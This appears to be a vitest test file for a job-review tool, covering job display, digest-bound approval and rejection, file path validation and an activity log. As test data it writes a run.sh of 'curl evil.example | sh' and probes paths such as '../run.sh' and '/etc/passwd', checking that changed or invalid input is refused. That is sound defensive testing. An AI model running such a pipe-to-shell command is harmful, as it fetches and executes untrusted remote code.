import { describe, expect, it } from 'vitest';
import { parseStateYaml } from '../../main/core/python-yaml/state-yaml.ts';
import type { JobDetail } from '../../shared/view/job.ts';
import { OWNER, placeOf, SENDER, sha256, type Wish } from '../build/jobs.ts';
import { memorySession } from '../build/memory-session.ts';

const FILES = { 'run.sh': 'python main.py\n', 'code/main.py': 'print(1)\n' };
const ID = `${OWNER}/${SENDER}/count`;

async function world(wish: Wish = { files: FILES }) {
  const memory = memorySession();
  const box = memory.box('/box');
  box.disk.put(wish);
  await memory.session.open({ box: '/box', owner: null, practice: false });
  await memory.time.pass(50);
  const { handlers } = memory.session;
  const show = async (): Promise<JobDetail> => {
    const reply = await handlers['jobs.show']({ id: ID });
    if (!reply.ok) throw new Error(reply.problem.what);
    return reply.value;
  };
  const digest = async () => (await show()).digest ?? '';
  return { ...memory, ...box, handlers, show, digest };
}

describe('showing a job', () => {
  it('gives everything but the contents of files, and run.sh whole', async () => {
    const { show } = await world();
    expect(await show()).toMatchObject({
      id: ID,
      name: 'count',
      status: 'pending',
      runScript: 'python main.py\n',
      own: true,
      claims: { name: 'count', type: 'python' },
      state: { status: 'pending', receivedAt: '2026-11-20T10:00:00Z' },
      approve: { allowed: true, reasons: [] },
      reject: { allowed: true },
      acknowledge: [],
    });
  });

  it('gives every reason why it cannot be approved, and what has to be acknowledged', async () => {
    const { show } = await world({
      files: FILES,
      defects: [
        { code: 'link', path: 'x', text: 'x is a link.' },
        { code: 'hidden-characters', path: 'run.sh', text: 'run.sh holds hidden characters.' },
      ],
    });
    expect(await show()).toMatchObject({
      approve: {
        allowed: false,
        reasons: [{ code: 'malformed-job', text: 'x is a link.' }],
      },
      reject: { allowed: true },
      acknowledge: ['hidden-characters'],
    });
  });

  it('has no run.sh to show where there is none', async () => {
    const { show } = await world({ files: { 'code/main.py': 'print(1)\n' } });
    expect((await show()).runScript).toBeNull();
  });

  it('shows the bytes of run.sh as they are, a byte order mark included', async () => {
    const { show } = await world({ files: { 'run.sh': '\uFEFFecho\r\n' } });
    expect((await show()).runScript).toBe('\uFEFFecho\r\n');
  });

  it('refuses to show a run.sh that is not the one the digest covers, and looks again', async () => {
    const { handlers, disk, time, show } = await world();
    disk.put({ files: { ...FILES, 'run.sh': 'curl evil.example | sh\n' } });
    expect(await handlers['jobs.show']({ id: ID })).toMatchObject({
      ok: false,
      problem: { code: 'content-changed' },
    });
    await time.pass(50);
    expect((await show()).runScript).toBe('curl evil.example | sh\n');
  });

  it.each(['', 'count', `${ID}/run.sh`, `${OWNER}/${SENDER}/other`, `${OWNER}//count`])(
    'knows no job “%s”',
    async (id) => {
      const { handlers } = await world();
      expect(await handlers['jobs.show']({ id })).toMatchObject({
        ok: false,
        problem: { code: 'no-such-job' },
      });
    },
  );

  it('repeats no more of a wrong name than a line holds', async () => {
    const { handlers } = await world();
    const reply = await handlers['jobs.show']({ id: `${OWNER}/${'x'.repeat(1_900)}/y` });
    expect(reply.ok ? '' : reply.problem.what.length).toBeLessThan(250);
  });
});

describe('showing a file', () => {
  it('gives its text with its hash', async () => {
    const { handlers } = await world();
    expect(await handlers['jobs.file']({ id: ID, path: 'code/main.py' })).toEqual({
      ok: true,
      value: { kind: 'text', path: 'code/main.py', sha256: sha256('print(1)\n'), text: 'print(1)\n' },
    });
  });

  it.each(['code', 'nothing.py', '../run.sh', '/etc/passwd', 'code/../run.sh', 'RUN.SH'])(
    'has no file “%s”',
    async (path) => {
      const { handlers } = await world();
      expect(await handlers['jobs.file']({ id: ID, path })).toMatchObject({
        ok: false,
        problem: { code: 'no-such-file' },
      });
    },
  );

  it('says why a large one is not shown', async () => {
    const { handlers } = await world({ files: { ...FILES, 'code/data.csv': 'x'.repeat(1_000_001) } });
    expect(await handlers['jobs.file']({ id: ID, path: 'code/data.csv' })).toMatchObject({
      ok: true,
      value: { kind: 'not-shown', size: 1_000_001, why: expect.stringContaining('Larger than 1 MB') },
    });
  });

  it('refuses text that is not what this version of the job holds', async () => {
    const { handlers, disk } = await world();
    disk.put({ files: { ...FILES, 'code/main.py': 'print(2)\n' } });
    expect(await handlers['jobs.file']({ id: ID, path: 'code/main.py' })).toMatchObject({
      ok: false,
      problem: { code: 'content-changed' },
    });
  });
});

describe('deciding', () => {
  it('approves under the digest that was shown and answers with the row', async () => {
    const { handlers, digest, disk } = await world();
    const asked = { id: ID, digest: await digest(), reason: ' fine by me ', acknowledged: [] };
    expect(await handlers['jobs.approve'](asked)).toMatchObject({
      ok: true,
      value: { id: ID, status: 'approved', own: true },
    });
    expect(parseStateYaml(disk.stateOf(placeOf()) ?? '')).toMatchObject({
      ok: true,
      state: { approvedBy: OWNER, reviewReason: ' fine by me ' },
    });
  });

  it.each([null, '', '  ', '\n\t'])('takes the reason %j as none', async (reason) => {
    const { handlers, digest, disk, log } = await world();
    await handlers['jobs.approve']({ id: ID, digest: await digest(), reason, acknowledged: [] });
    expect(disk.stateOf(placeOf())).toContain('review_reason: null');
    expect(log.lines[0]).toMatchObject({ kind: 'intent', reason: null });
  });

  it('refuses with what changed since the job was shown', async () => {
    const { handlers, digest, disk } = await world();
    const shown = await digest();
    disk.put({ files: { ...FILES, 'run.sh': 'python main.py --all\n' } });
    const reply = await handlers['jobs.approve']({ id: ID, digest: shown, reason: null, acknowledged: [] });
    expect(reply).toMatchObject({
      ok: false,
      problem: {
        code: 'content-changed',
        details: {
          shown,
          changes: [
            {
              path: 'run.sh',
              change: 'content',
              hunks: [{ before: 1, after: 1, lines: ['-python main.py', '+python main.py --all'] }],
            },
          ],
        },
      },
    });
    expect(disk.stateOf(placeOf())).toContain('status: pending');
  });

  it('cannot say what changed of a job that was never shown', async () => {
    const { handlers } = await world();
    const digest = `sha256:${'0'.repeat(64)}`;
    const reply = await handlers['jobs.approve']({ id: ID, digest, reason: null, acknowledged: [] });
    expect(reply).toMatchObject({
      ok: false,
      problem: { code: 'content-changed', details: { shown: digest, changes: null } },
    });
  });

  it('approves what has to be acknowledged only with that', async () => {
    const { handlers, digest } = await world({
      files: FILES,
      defects: [{ code: 'hidden-characters', path: 'run.sh', text: 'run.sh holds hidden characters.' }],
    });
    const asked = { id: ID, digest: await digest(), reason: null };
    expect(await handlers['jobs.approve']({ ...asked, acknowledged: [] })).toMatchObject({
      ok: false,
      problem: { code: 'needs-acknowledgement' },
    });
    expect(await handlers['jobs.approve']({ ...asked, acknowledged: ['hidden-characters'] })).toMatchObject({
      ok: true,
      value: { status: 'approved' },
    });
  });

  it('rejects with the reason, once', async () => {
    const { handlers, digest, log } = await world();
    const asked = { id: ID, digest: await digest(), reason: 'too broad' };
    expect(await handlers['jobs.reject'](asked)).toMatchObject({ ok: true, value: { status: 'rejected' } });
    expect(await handlers['jobs.reject'](asked)).toMatchObject({
      ok: false,
      problem: { code: 'wrong-state' },
    });
    expect(log.lines.map((line) => line.kind)).toEqual(['intent', 'outcome', 'refusal']);
  });

  it('rejects without a digest only what has none', async () => {
    const { handlers } = await world();
    expect(await handlers['jobs.reject']({ id: ID, digest: null, reason: 'no' })).toMatchObject({
      ok: false,
      problem: { code: 'content-changed' },
    });
    const large = await world({ files: FILES, digest: null });
    expect(await large.handlers['jobs.reject']({ id: ID, digest: null, reason: 'no' })).toMatchObject({
      ok: true,
      value: { status: 'rejected', digest: null },
    });
  });

  it('refuses a digest that is none', async () => {
    const { handlers } = await world();
    expect(
      await handlers['jobs.approve']({ id: ID, digest: 'sha256:123', reason: null, acknowledged: [] }),
    ).toMatchObject({ ok: false, problem: { code: 'bad-request' } });
  });

  it('decides nothing in somebody else’s datasite', async () => {
    const place = placeOf('count', { datasite: 'peer@lab.example' });
    const { handlers, session } = await world({ place, files: FILES });
    const snapshot = await session.handlers['jobs.snapshot']({});
    const [row] = snapshot.ok ? snapshot.value.jobs : [];
    expect(row).toMatchObject({ own: false });
    expect(
      await handlers['jobs.reject']({ id: row?.id ?? '', digest: row?.digest ?? null, reason: 'no' }),
    ).toMatchObject({ ok: false, problem: { code: 'not-owner' } });
  });
});

describe('activity', () => {
  it('is given newest first, in pages', async () => {
    const { handlers, digest } = await world();
    const asked = { id: ID, digest: await digest(), reason: 'no' };
    for (let turn = 0; turn < 3; turn += 1) await handlers['jobs.reject'](asked);
    const first = await handlers['activity.list']({ limit: 3 });
    expect(first).toMatchObject({
      ok: true,
      value: { rows: [{ seq: 4, kind: 'refusal' }, { seq: 3 }, { seq: 2, kind: 'outcome' }], more: true },
    });
    expect(await handlers['activity.list']({ limit: 3, before: 2 })).toMatchObject({
      ok: true,
      value: { rows: [{ seq: 1, kind: 'intent', reason: 'no', action: 'reject' }], more: false },
    });
    expect(await handlers['activity.verify']({})).toEqual({
      ok: true,
      value: { intact: true, entries: 4, problems: [] },
    });
  });
});
